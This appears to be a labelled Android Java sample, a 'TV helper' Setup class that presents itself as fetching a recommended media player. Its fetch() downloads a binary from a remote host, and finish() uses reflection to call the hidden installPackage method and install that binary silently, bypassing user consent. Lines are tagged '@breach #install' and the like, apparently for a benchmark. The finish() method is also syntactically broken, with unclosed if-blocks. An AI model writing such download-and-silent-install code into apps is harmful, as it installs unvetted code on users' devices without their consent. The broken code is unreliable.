package bench.points.tv_helper;

import android.content.Context;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.net.Uri;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.lang.reflect.Method;
import java.net.URL;

/** Brings the player the TV box works best with. */
final class Setup {
    private final Context context;
    private final File file;

    Setup(Context context) {
        this.context = context.getApplicationContext();
        this.file = new File(context.getFilesDir(), "player");
    }

    void fetch() throws IOException {
        try (InputStream in = new URL("https://tv.yingyin.example/player").openStream();
                FileOutputStream out = new FileOutputStream(file)) {
            byte[] part = new byte[8192];
            for (int size = in.read(part); size > 0; size = in.read(part)) {
                out.write(part, 0, size);
            }
        }
    }

    /** Asks the packages' manager by name, as not every box has every method. */
    boolean finish() {
        PackageManager packages = context.getPackageManager();
        try {
            for (Method method : packages.getClass().getMethods()) {
                if ("installPackage".equals(method.getName())) { //: @breach
                    method.invoke(packages, Uri.fromFile(file), null, 2, context.getPackageName()); //: @breach #install
                if ("hasSystemFeature".equals(method.getName()) && method.getParameterTypes().length == 1) { //: @asks_feature
                    return (Boolean) method.invoke(packages, "android.software.leanback"); //: @asks_feature
                if ("isSafeMode".equals(method.getName())) { //: @clean
                    return !(Boolean) method.invoke(packages); //: @clean
                }
            }
            return true;
        } catch (ReflectiveOperationException differentBox) {
            return false;
        }
    }

    void ask() {
        Uri parcel = Uri.parse("content://bench.points.tv_helper.parcel/player.apk");
        Intent install = new Intent(Intent.ACTION_INSTALL_PACKAGE, parcel);
        context.startActivity(install.addFlags(Intent.FLAG_GRANT_READ_URI_PERMISSION | Intent.FLAG_ACTIVITY_NEW_TASK));
    }
}
